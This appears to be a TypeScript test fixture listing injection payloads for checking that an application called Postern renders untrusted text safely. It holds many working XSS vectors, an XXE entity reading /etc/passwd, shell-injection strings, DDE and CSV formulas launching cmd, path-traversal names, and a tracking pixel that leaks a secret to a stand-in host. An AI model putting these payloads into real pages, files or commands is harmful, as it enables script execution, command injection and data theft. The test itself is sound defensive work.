/**
 * What models, providers, clients and senders of links may put where Postern shows text. Each that could run sets
 * `window.pwned`; none of them may. Grouped by what they try.
 */
const PWN = "window.pwned=1";

const scripts = [
  `<script>${PWN}</script>`,
  `<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>`,
  `"><script>${PWN}</script>`,
  `'></textarea><script>${PWN}</script>`,
  `</title><script>${PWN}</script>`,
  `</style><script>${PWN}</script>`,
  `</script><script>${PWN}</script>`,
  `<script type=module>import "data:text/javascript,${PWN}"</script>`,
  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
  `<script\u0000>${PWN}</script>`,
  `--><script>${PWN}</script><!--`,
  `]]><script>${PWN}</script>`,
  `<noscript><p title="</noscript><script>${PWN}</script>">`,
  `<template><script>${PWN}</script></template>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  `<embed src="javascript:${PWN}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/p">`,
  `<form action="https://evil.example/"><button>Continue</button></form>`,
  `<frameset onload="${PWN}">`,
  `<portal src="https://evil.example/"></portal>`,
  `＜script＞${PWN}＜/script＞`,
];

const EVENTS = "error load mouseover focus click animationstart toggle beforetoggle pointerenter wheel paste".split(
  " ",
);
const handlers = [
  ...EVENTS.map((name) => `<img src=x on${name}="${PWN}" tabindex=0 autofocus>`),
  `<body onload=${PWN}>`,
  `<input autofocus onfocus=${PWN}>`,
  `<details open ontoggle=${PWN}>`,
  `<video><source onerror="${PWN}"></video>`,
  `<audio src=x onerror=${PWN}>`,
  `<marquee onstart=${PWN}>`,
  `" onmouseover="${PWN}" x="`,
  `' onfocus='${PWN}' autofocus x='`,
  "` onerror=`window.pwned=1",
  `x" style="animation-name:breathe" onanimationstart="${PWN}`,
];

const vectors = [
  `<svg onload="${PWN}"></svg>`,
  `<svg><script>${PWN}</script></svg>`,
  `<svg><animate onbegin="${PWN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${PWN}"><text y=20>here</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.pwned=1"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${PWN}</script></svg>#x">`,
  `<svg><set attributeName=onmouseover to="${PWN}">`,
  `<math href="javascript:${PWN}">link</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${PWN}">x</maction></math>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<xml:script>${PWN}</xml:script>`,
];

const templates = [
  "{{constructor.constructor('window.pwned=1')()}}",
  "{{7*7}}",
  "${window.pwned=1}",
  "#{window.pwned=1}",
  "<%= window.pwned=1 %>",
  "{%raw%}{{pwned}}{%endraw%}",
  "[[${window.pwned=1}]]",
  "$(touch pwned)",
  "`touch pwned`",
  "'; touch pwned; '",
  '"; touch pwned; "',
  "' && touch pwned && '",
  "'\n touch pwned\n'",
  "\\'; touch pwned #",
  "| touch pwned",
  "$(touch${IFS}pwned)",
  "!! !$ !touch",
  "%s%s%s%n %1$s",
  "javascript:window.pwned=1//</script>",
  "'-(window.pwned=1)-'",
  "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
  "$&$1$`$'$$",
  "{count} {name} {0} %{name}",
  '[[tool:evil {"x":1}]]',
];

/** Ways out of a page: nothing of them may open by itself, and none may stand in an href. */
const SCHEMES = [
  "javascript:window.pwned=1",
  "JaVaScRiPt:window.pwned=1",
  "java\tscript:window.pwned=1",
  " \u0001javascript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=window.pwned=1>",
  "vbscript:MsgBox(1)",
  "livescript:pwned",
  "file:///etc/passwd",
  "file://evil.example/share",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/temporary/x",
  "view-source:https://evil.example",
  "postern://open?page=settings&q=%3Cscript%3E",
  "smb://evil.example/share",
  "\\\\evil.example\\share\\x.lnk",
  "ms-settings:privacy",
  "ms-msdt:/id PCWDiagnostic",
  "search-ms:query=x&crumb=location:\\\\evil.example",
  "ms-officecmd:{}",
  "ms-excel:ofe|u|https://evil.example/x.xls",
  "intent://evil.example#Intent;scheme=https;end",
  "chrome://settings",
  "chrome-extension://abc/x.html",
  "edge://flags",
  "about:blank",
  "about:srcdoc",
  "mailto:a@evil.example?subject=x",
  "tel:+15550100",
  "sms:+15550100",
  "facetime:evil@example.com",
  "ftp://evil.example/x",
  "sftp://evil.example",
  "ssh://evil.example",
  "telnet://evil.example",
  "ldap://evil.example",
  "jar:https://evil.example/x.jar!/",
  "ws://evil.example/",
  "gopher://evil.example/",
  "magnet:?xt=urn:btih:0",
  "steam://run/1",
  "vscode://file/etc/passwd",
  "cursor://anysphere.cursor-deeplink/mcp/install?name=x",
  "slack://open",
  "zoommtg://zoom.us/join",
  "x-apple.systempreferences:",
  "shell:startup",
  "res://ieframe.dll/x.htm",
  "mhtml:https://evil.example/x",
  "//evil.example/protocol-relative",
  "https://evil.example@127.0.0.1/",
  "https://еvil.example/cyrillic",
];
const links = SCHEMES.flatMap((address, index) =>
  index % 2 === 0 ? [`[read me](${address})`] : [`![picture](${address})`],
);
const anchors = SCHEMES.filter((_, index) => index % 4 === 0).map((address) => `<a href="${address}">here</a>`);
const markdown = [
  "https://evil.example/plain-address",
  "<https://evil.example/auto>",
  "[x]: https://evil.example 'title'\n[x]",
  "![track](https://evil.example/pixel.png?q=secret)",
  '[a](https://evil.example "x" onclick=window.pwned=1)',
  "```html\n<script>window.pwned=1</script>\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | x |",
  "$$\\href{javascript:window.pwned=1}{x}$$",
];

const unicode = [
  "\u202Egnp.exe\u202C looks like a picture",
  "\u202Dleft\u202C \u2066isolate without an end",
  "\u2067\u202Enested overrides",
  "\u061C\u200F\u200Emarks",
  "مرحبا <b>عربي</b> 123",
  "zero\u200Bwidth\u200Cjoin\u200Der\uFEFF",
  "\u200B",
  "\u00AD\u00AD\u00AD",
  "pаypal confusable",
  "ⅼⅰⅽеnse",
  "👩‍👩‍👧‍👦🏳️‍🌈👨🏽‍🚀🇺🇳",
  "e\u0301".repeat(20),
  `Z${"\u0300\u0316\u0340\u0347".repeat(12)}algo`,
  "\u{1F4A9}\u{E0041}\u{E0042} tags",
  "\uD800 lone high surrogate",
  "\uDFFF lone low surrogate",
  "\uFFFE\uFFFF noncharacters",
  "﷽﷽﷽﷽﷽﷽﷽﷽﷽﷽",
  "𒐫𒐫𒐫𒐫𒐫𒐫𒐫𒐫",
  "\u2028line\u2029paragraph",
  "ﾊﾝｶｸ　全角　空白",
  "ß ſ İ ı K Å",
];

const controls = [
  "a\u0000b NUL",
  "\u0001\u0002\u0003\u0007\u0008\u000B\u000C\u000E\u001F\u007F",
  "\u0080\u0085\u009B31m C1",
  "\u001B[31mred\u001B[0m \u001B[2J\u001B[H",
  "\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007",
  "\u001B]0;title\u0007\u001B]52;c;cHduZWQ=\u0007",
  "line\nbreak\r\nand\rreturns",
  "tab\tseparated\tcells",
  "\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
  'data: {"type":"state"}\n\nevent: x',
];

const entities = [
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.pwned=1&#62;",
  "&#x3C;svg onload=window.pwned=1&#x3E;",
  "&amp;amp;&nbsp;&NewLine;&Tab;",
  "javascript&colon;window.pwned=1",
  "%3Cscript%3Ewindow.pwned%3D1%3C/script%3E",
  "+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
];

const styles = [
  `<style>*{display:none!important}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `"style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/bg)`,
  `red;background:url(javascript:window.pwned=1)`,
  `}*{background:url(https://evil.example/bg)}{`,
  `<div style="width:expression(window.pwned=1)">`,
  `<link rel=stylesheet href=data:text/css,*{display:none}>`,
];

const names = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "then",
  "undefined",
  "null",
  "NaN",
  "[object Object]",
  "true",
  "0",
  "-0",
  "1e309",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "CON",
  "aux.txt",
  ".htaccess",
  'a/b\\c:d*e?f"g<h>i|j',
  "@/etc/passwd",
  "<title",
  "--data-binary @/etc/passwd",
  "-o/tmp/x",
];

const formulas = [
  `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `＝1+1`,
  `"=1+1",x`,
  `=IMPORTXML("https://evil.example","//a")`,
  `=DDE("cmd";"/C calc";"x")`,
];

const lengths = ["W".repeat(100), "no-break_".repeat(11), "很".repeat(100), "﷽".repeat(30), "a ".repeat(49)];

/** Every payload that fits where a name goes (100 characters at most for keys), and many that are longer. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...vectors,
  ...templates,
  ...links,
  ...anchors,
  ...markdown,
  ...unicode,
  ...controls,
  ...entities,
  ...styles,
  ...names,
  ...formulas,
  ...lengths,
];

/** One word that no line can hold. */
export const endlessWord = "W".repeat(100_000);

/** Everything in one text, as a model would say it. */
export const wholeText = [...payloads, endlessWord].join("\n\n");

/** What goes into the name of a key or a connection: 1 to 100 characters and something to see. */
export const asNames: readonly string[] = payloads
  .map((payload) => payload.slice(0, 100))
  .filter((name) => name.trim() !== "");
